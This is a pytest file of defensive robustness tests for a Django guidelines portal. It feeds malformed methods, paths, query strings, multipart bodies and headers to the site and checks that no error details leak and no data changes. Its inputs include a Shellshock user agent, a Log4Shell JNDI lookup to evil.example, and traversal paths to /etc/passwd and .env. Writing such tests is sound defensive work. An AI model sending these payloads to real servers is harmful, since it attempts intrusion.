"""Requests that no browser makes: each gets an answer of 4xx or less, tells nothing of the inside, changes nothing."""

import io
import re
from urllib.parse import quote, unquote_to_bytes

import pytest
from django.test import Client
from django.urls import reverse

from tests.security.site import Site, address, addresses, body, names
from tests.security.tables import changes, frozen

INSIDE = re.compile(
    rb"Traceback|File &quot;|site-packages|\bdjango\b|gunicorn|sqlite3?\b|psycopg|OperationalError|Exception\b",
    re.IGNORECASE,
)


def fine(response, *statuses: int) -> None:
    content = body(response).replace("<dd>SQLite（".encode(), b"")  # what managers are told
    assert response.status_code < 500
    assert not statuses or response.status_code in statuses, response.status_code
    if response.headers.get("Content-Type", "").startswith("text/"):
        assert not INSIDE.search(content), INSIDE.search(content)


@pytest.mark.parametrize("role", ["anonymous", "officer", "secretariat"])
@pytest.mark.parametrize("method", ["OPTIONS", "TRACE", "PUT", "PATCH", "DELETE", "BREW", "get"])
def test_methods_that_no_form_has(site: Site, role, method):
    client = site.client(role)
    marks = {"library_savedviewvisit", "notices_feed", "notices_notice"}  # of what was opened, fetched and read
    looked = {"audit_reading", "django_session", "audit_event", "audit_chainhead", "posting_ratecounter", *marks}
    before = frozen(without=looked)
    for found in addresses(site).values():
        fine(client.generic(method, found, b"reason=x&once=" + b"k" * 32, "application/x-www-form-urlencoded"))
    assert changes(before, frozen(without=looked)) == {}


ODD = [
    "99999999", "9" * 30, "9" * 400, "-1", "0", "1.5", "１", "²", "", "見本", "\x00", "a\x00b", "'\"><b>", "%", "[]",
    "None", "令和99年99月99日", "9999-12-31", "0001-01-01", "\ud800",
]  # fmt: skip
ASKED = (
    "page",
    "file",
    "q",
    "sort",
    "rows",
    "from",
    "to",
    "kind",
    "theme",
    "pref",
    "region",
    "fy",
    "who",
    "verb",
    "next",
)


def query(**values: str) -> str:
    return "?" + "&".join(f"{name}={quote(value, errors='surrogatepass')}" for name, value in values.items())


@pytest.mark.parametrize("odd", ODD, ids=ascii)
def test_odd_questions(site: Site, odd):
    desk, visitor = site.client("secretariat"), site.client("anonymous")
    for name in ("guidelines:list", "guidelines:detail", "manage:audit", "manage:members", "review:queue", "home"):
        fine(desk.get(address(site, name) + query(**dict.fromkeys(ASKED, odd))))
    for asked in ASKED:
        fine(visitor.get(address(site, "guidelines:list") + query(**{asked: odd})), 200)


@pytest.mark.parametrize("number", ["0", "9223372036854775808", "9" * 400], ids=len)
def test_numbers_that_no_row_can_have(site: Site, number):
    """404 everywhere, on either database, looked at and acted on."""
    desk, officer = site.client("secretariat"), site.client("officer")
    for name, wanted in names():
        if set(wanted) & {"pk", "number"}:
            path = re.sub(r"/1(?=[/.])", f"/{number}", reverse(name, kwargs=dict.fromkeys(wanted, 1)), count=1)
            fine(desk.get(path), 302, 403, 404, 405)
            for client in (desk, officer):
                fine(client.post(path, {"once": "k" * 32}), 302, 403, 404, 405)
    page = f"/files/{site.file}/pages/{number}"
    for path in (f"{page}.webp", f"{page}-small.webp", f"{page}.txt", f"{site.live.get_absolute_url()}v/{number}/"):
        fine(desk.get(path), 404)


PATHS = [
    "/%ff%fe/", "/guidelines/%ff/", "/guidelines/%c0%ae%c0%ae/", "/invite/%ff/", "/invite/%00/", "/guidelines/%00/",
    "/themes/%00/", "/themes/%e3%81/", "/prefectures/%00/", "/prefectures/%c2%b2/", "/prefectures/%ef%bc%99/",
    "/help/%00/",
    "/static/%00", "/static/%ff.css", "/static/..%2f..%2fetc/passwd", "/static/../portal/settings.py",
    "/static//etc/passwd",
    "/files/1/pages/1.webp%00.txt", "/files/%2e%2e/", "/password/reset/key/%00-%00/", "/password/reset/key/zzzzz-x/",
    "/password/reset/key/" + "9" * 400 + "-set-password/", "//evil.example/", "/\\evil.example/", "/;/", "/%0d%0aX: y/",
    "/.git/config", "/.env", "/manage.py", "/admin/", "/%2e%2e%2f", "/login/%20", "*",
]  # fmt: skip


@pytest.mark.parametrize("path", PATHS)
def test_broken_paths(site: Site, path):
    for role in ("anonymous", "secretariat"):
        response = site.client(role).get("/", PATH_INFO=unquote_to_bytes(path).decode("latin-1"))
        fine(response, *([200] if "/key/" in path else []), 301, 302, 400, 404)
        assert "evil.example" not in response.headers.get("Location", "").split("?")[0].removeprefix("/login/")


QUERIES = [
    "q=%ff%fe",
    "q=%00",
    "q=%e3%81",
    "%ff=%ff",
    "q" + "&q" * 1500,
    "&" * 3000,
    "=" * 3000,
    "q=%u3042",
    ";;;",
    "?" * 99,
]


@pytest.mark.parametrize("asked", QUERIES, ids=lambda asked: asked[:12])
def test_broken_questions(site: Site, asked):
    for name in ("guidelines:list", "manage:audit", "account_login", "guidelines:export_csv"):
        fine(site.client("secretariat").get(f"{address(site, name)}?{asked}"), 200, 302, 400, 429)


def test_what_is_too_much_is_refused_by_its_own_number(site: Site):
    client = site.client("officer")
    details = address(site, "submit:details")
    fine(client.get("/guidelines/?q=" + "x" * 4200), 414)
    fine(client.get("/" + "x" * 4200), 414)
    fine(client.get("/guidelines/?" + "&".join(f"p{number}=" for number in range(500))), 200)
    fine(client.post(details, {f"p{number}": "" for number in range(2001)}), 400)
    answer = client.post(details, {"title": "長" * 900_000})
    fine(answer, 413)
    assert "2.4MB" in answer.content.decode()
    typed = "application/x-www-form-urlencoded"
    fine(client.post(details, "title=" + "x" * 2_600_000, content_type=typed), 413)
    fine(client.post(details, b"&" * 1_000_000, content_type=typed), 400)
    fine(Client().post("/login/", "x" * 2_600_000, content_type="application/json"), 200, 413)


EDGE = "multipart/form-data; boundary=edge"
HEAD = b'--edge\r\nContent-Disposition: form-data; name="files"; filename="a.txt"\r\n'
BODIES: list[tuple[str, bytes]] = [
    (EDGE, b""),
    (EDGE, b"--edge"),
    (EDGE, b"--edge--"),
    (EDGE, b"\x00" * 2000),
    (EDGE, b"--edge\r\n\r\n\r\n--edge--"),
    (EDGE, HEAD),
    (EDGE, HEAD + b"\r\nhalf of it"),
    (EDGE, HEAD + b"X: " + b"x" * 5000 + b"\r\n\r\nx\r\n--edge--\r\n"),
    (EDGE, HEAD.replace(b"a.txt", b"\xff\xfe.txt") + b"\r\nx\r\n--edge--\r\n"),
    (EDGE, HEAD.replace(b"a.txt", b"x" * 20_000) + b"\r\nx\r\n--edge--\r\n"),
    (EDGE, HEAD.replace(b'filename="a.txt"', b"filename*=utf-16''%ff%fe") + b"\r\nx\r\n--edge--\r\n"),
    (EDGE, HEAD.replace(b'filename="a.txt"', b"filename*=nonsense''x") + b"\r\nx\r\n--edge--\r\n"),
    (EDGE, HEAD.replace(b'filename="a.txt"', b"filename*=x") + b"\r\nx\r\n--edge--\r\n"),
    (EDGE, HEAD + b"Content-Transfer-Encoding: base64\r\n\r\n!!!!\r\n--edge--\r\n"),
    (EDGE, HEAD + b"Content-Length: nonsense\r\n\r\nx\r\n--edge--\r\n"),
    (EDGE, HEAD + b"Content-Type: text/plain; charset=nonsense\r\n\r\nx\r\n--edge--\r\n"),
    (EDGE, HEAD.replace(b'name="files"', b'name="once"') + b"\r\nx\r\n--edge--\r\n"),
    (EDGE, b'--edge\r\nContent-Disposition: form-data; name="\xff"\r\n\r\n\xff\r\n--edge--\r\n'),
    (
        EDGE,
        b"".join(b'--edge\r\nContent-Disposition: form-data; name="x"\r\n\r\n\r\n' for _ in range(2100)) + b"--edge--",
    ),
    (EDGE, (HEAD + b"\r\nx\r\n") * 40 + b"--edge--\r\n"),
    ("multipart/form-data", b"x"),
    ("multipart/form-data; boundary=", b"x"),
    ("multipart/form-data; boundary=" + "x" * 3000, b"x"),
    ("multipart/form-data; boundary=\xe9", b"x"),
    ("multipart/mixed; boundary=edge", HEAD + b"\r\nx\r\n--edge--\r\n"),
    ("application/x-www-form-urlencoded", b"title=\xff\xfe&\x00=\x00"),
    ("application/x-www-form-urlencoded; charset=utf-16", b"title=x"),
    ("application/x-www-form-urlencoded; charset=nonsense", b"title=x"),
    ("application/json", b"[" * 10_000),
    ("", b"title=x"),
    (";;;=", b"title=x"),
    ("x" * 5000, b"x"),
]


# A file that came before the break is closed when it is let go, which Python tells of.
@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning", "ignore::ResourceWarning")
@pytest.mark.parametrize("number", range(len(BODIES)))
def test_broken_bodies(site: Site, number):
    kind, content = BODIES[number]
    for role, name in (("officer", "submit:files"), ("officer", "submit:details"), ("anonymous", "account_login")):
        fine(site.client(role).generic("POST", address(site, name), content, kind), 200, 302, 400)


LENGTHS = ["-1", "0", "1", "999", "9" * 18, "9" * 30, "x", "1e3", "１０", "+5", " 7 ", "", "0x10", "1,2"]


@pytest.mark.parametrize("length", LENGTHS)
@pytest.mark.parametrize("kind", [EDGE, "application/x-www-form-urlencoded"])
def test_a_length_that_lies(site: Site, kind, length):
    """More or less than is sent, or no number at all; the reader gets no more than there is."""
    sent = {"CONTENT_LENGTH": length, "wsgi.input": io.BytesIO(b"title=x&" * 10)}
    for role, name in (("officer", "submit:files"), ("officer", "submit:details"), ("anonymous", "account_login")):
        sent["wsgi.input"].seek(0)
        fine(site.client(role).post(address(site, name), b"", content_type=kind, **sent), 200, 302, 400, 413)


HEADERS: list[dict[str, str]] = [
    {"Cookie": "a=" + "x" * 60_000},
    {"Cookie": "; ".join(f"a{number}=x" for number in range(5000))},
    {"Cookie": 'portal_session_8000="\x00"; portal_csrf_8000=\xff; messages=x; sessionid=' + "x" * 500},
    {"Cookie": ";;==;\x00=\x00; $Version=1; a=" + '"' * 999},
    {"Accept-Language": ",".join(f"x{number}-y;q=0.1" for number in range(5000))},
    {"Accept-Language": "../../etc/passwd,\x00,ja" * 500},
    {"Accept-Encoding": "gzip;q=nonsense,*;q=," * 500},
    {"Accept": "*/*;" * 5000},
    {"If-None-Match": '"x",' * 5000},
    {"If-None-Match": "\x00"},
    {"If-Modified-Since": "99999-99-99"},
    {"If-Modified-Since": "Thu, 99 Foo 99999999999 99:99:99 GMT"},
    {"If-Unmodified-Since": "Thu, 01 Jan 0000 00:00:00 GMT"},
    {"If-Range": "\x00" * 100},
    {"Range": "bytes=" + ",".join(f"{number}-{number}" for number in range(1000))},
    {"Range": "bytes=0-,0-,0-,0-,0-"},
    {"Range": "bytes=-" + "9" * 30},
    {"Range": "bytes=" + "9" * 300 + "-"},
    {"Range": "bytes=9-1"},
    {"Range": "bytes=--1"},
    {"Range": "lines=1-2"},
    {"Range": "bytes=" + "0-0," * 10_000},
    {"Expect": "100-continue"},
    {"Upgrade": "h2c", "Connection": "Upgrade, HTTP2-Settings", "HTTP2-Settings": "x"},
    {"Transfer-Encoding": "chunked"},
    {"X-HTTP-Method-Override": "DELETE"},
    {"Referer": "x" * 60_000},
    {"User-Agent": "() { :;}; /bin/bash -c id"},
    {"User-Agent": "${jndi:ldap://evil.example/a}"},
    {"X-Requested-With": "XMLHttpRequest", "Accept": "application/json"},
    {"Authorization": "Basic " + "=" * 5000},
    {"Content-Encoding": "gzip"},
    {"Host": "testserver:99999999"},
    {"Host": "testserver\x00"},
    {"Host": "x" * 60_000},
]


@pytest.mark.parametrize("number", range(len(HEADERS)))
def test_odd_headers(site: Site, number):
    headers = HEADERS[number]
    for role in ("anonymous", "officer"):
        client = site.client(role)
        for name in ("home", "guidelines:list", "files:download", "files:text", "account_login"):
            fine(client.get(address(site, name), headers=headers), 200, 206, 302, 304, 400, 412, 416)
        fine(client.post("/login/", {"login": "x", "password": "x"}, headers=headers), 200, 302, 400)
        fine(client.get("/static/icon.svg", headers=headers), 200, 206, 304, 400, 404, 416)


def test_a_storm_of_ranges_gets_the_file_once(site: Site):
    whole = body(site.client("officer").get(address(site, "files:download")))
    for header in [each["Range"] for each in HEADERS if "Range" in each]:
        response = site.client("officer").get(address(site, "files:download"), headers={"Range": header})
        assert len(body(response)) <= len(whole)
        assert "multipart" not in response["Content-Type"]
